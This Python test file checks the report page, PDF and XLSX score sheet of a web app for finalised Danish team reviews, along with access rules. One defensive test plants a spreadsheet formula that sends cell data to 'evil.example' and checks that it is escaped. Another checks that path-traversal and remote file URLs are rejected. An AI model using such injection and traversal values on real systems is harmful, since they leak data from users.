"""A finalised review's report: the page, the PDF made on the server and the XLSX score
sheet, each holding what the database holds; nothing for a review still in progress."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path
from urllib.parse import unquote

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlmodel import Session, col, select

from app.models import Rating, Review, Role, Team
from app.services import reports
from tests.factories import make_team, make_user, shipped_scale
from tests.services.test_profiles import finalised, in_progress
from tests.web.signin import parse, sign_in


def _reviewed(session: Session) -> tuple[Review, int]:
    """A finalised review with a low score on three items (so three recommendations),
    strengths and a summary; signed in as its team's leader."""
    team = make_team(session, municipalities=(101,))
    keys = [item.key for item in shipped_scale().items]
    review = finalised(
        session, team, date(2025, 9, 3), {keys[0]: 2, keys[4]: 1, keys[9]: 3}, default=4
    )
    review.strengths = "Tæt samarbejde med psykiatrien.\n\n- Hurtig jobsøgning"
    review.summary = "Teamet arbejder tæt på modellen."
    session.add(review)
    session.commit()
    return review, team.id or 0


def test_the_pdf_holds_the_total_and_every_recommendation(
    client: TestClient, session: Session
) -> None:
    review, team_id = _reviewed(session)

    sign_in(
        client,
        make_user(session, role=Role.TEAM_LEADER, teams=(session.get(Team, team_id),)).username,
    )  # type: ignore[arg-type]

    response = client.get(f"/reviews/{review.id}/report.pdf")

    assert response.headers["content-type"] == "application/pdf"
    named = unquote(response.headers["content-disposition"].split("filename*=UTF-8''")[1])
    team = session.get(Team, team_id)
    assert named == f"{team.name} {review.visit_date.isoformat()} fidelitetsrapport.pdf"
    pdf = PdfReader(io.BytesIO(response.content))
    text = "\n".join(page.extract_text() for page in pdf.pages)
    assert 2 <= len(pdf.pages) <= 4
    assert "94 af 125" in text  # 22 items at 4, and 2 + 1 + 3
    assert " ".join(text.split()).count("Styrk samarbejdet") == 3
    assert "Tæt samarbejde med psykiatrien" in text and "Hurtig jobsøgning" in text
    assert review.total_score == 94.0


def test_the_report_page_and_the_score_sheet(client: TestClient, session: Session) -> None:
    review, _ = _reviewed(session)
    sign_in(client, make_user(session, role=Role.ADMIN).username)

    page = parse(client.get(f"/reviews/{review.id}/report").text)
    assert page.select_one("[data-total]").get_text() == "94"  # type: ignore[union-attr]
    # A report is of its own review, which need not be the team's latest.
    assert "seneste" not in page.select_one("main").get_text()
    assert len(page.select(".recommendations li")) == 3
    assert len(page.select(".report-items tbody tr")) == 25

    sheet = client.get(f"/reviews/{review.id}/scoresheet.xlsx")
    assert sheet.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    book = load_workbook(io.BytesIO(sheet.content))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert rows[3][1] == 94.0
    items = [row for row in rows[7:] if row and isinstance(row[0], int)]
    assert len(items) == 25
    assert [row[3] for row in items][:5] == [2.0, 4.0, 4.0, 4.0, 1.0]
    assert sum(1 for row in items if row[5]) == 3
    groups = list(book.worksheets[1].iter_rows(values_only=True))
    assert len(groups) == 1 + len(shipped_scale().sections) + len(shipped_scale().principles)


def test_a_review_in_progress_has_no_report(client: TestClient, session: Session) -> None:
    team = make_team(session)
    finalised_one = finalised(session, team, date(2024, 9, 3), {})
    open_review = in_progress(session, finalised_one, date(2025, 9, 3))
    sign_in(client, make_user(session, role=Role.ADMIN).username)

    for path in ("report", "report.pdf", "scoresheet.xlsx"):
        response = client.get(f"/reviews/{open_review.id}/{path}")
        assert response.status_code == 409
        assert "afsluttet" in response.text


def test_a_team_leader_cannot_fetch_another_teams_report(
    client: TestClient, session: Session
) -> None:
    review, _ = _reviewed(session)
    sign_in(client, make_user(session, role=Role.TEAM_LEADER, teams=(make_team(session),)).username)
    assert client.get(f"/reviews/{review.id}/report.pdf").status_code == 404


def test_spreadsheet_formulas_in_texts_stay_text(client: TestClient, session: Session) -> None:
    review, _ = _reviewed(session)
    rating = session.exec(
        select(Rating).where(Rating.review_id == review.id, col(Rating.recommendation).is_not(None))
    ).first()
    assert rating is not None
    rating.recommendation = '=HYPERLINK("http://evil.example/?"&B1,"Se mere")'
    session.add(rating)
    session.commit()
    sign_in(client, make_user(session, role=Role.ADMIN).username)

    book = load_workbook(io.BytesIO(client.get(f"/reviews/{review.id}/scoresheet.xlsx").content))

    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value]
    assert all(cell.data_type != "f" for cell in cells)
    assert any(str(cell.value).startswith("'=HYPERLINK") for cell in cells)


def test_the_pdf_may_read_only_the_apps_static_files(tmp_path: Path) -> None:
    static = tmp_path / "static"
    (static / "css").mkdir(parents=True)
    secret = tmp_path / "secret.txt"
    secret.write_text("x")
    assert reports.inside((static / "css" / "report.css").as_uri(), folder=static)
    assert not reports.inside(secret.as_uri(), folder=static)
    assert not reports.inside(static.as_uri() + "/%2e%2e/secret.txt", folder=static)
    assert not reports.inside("http://evil.example/x.css", folder=static)
    assert not reports.inside("file://evil.example/etc/passwd", folder=static)
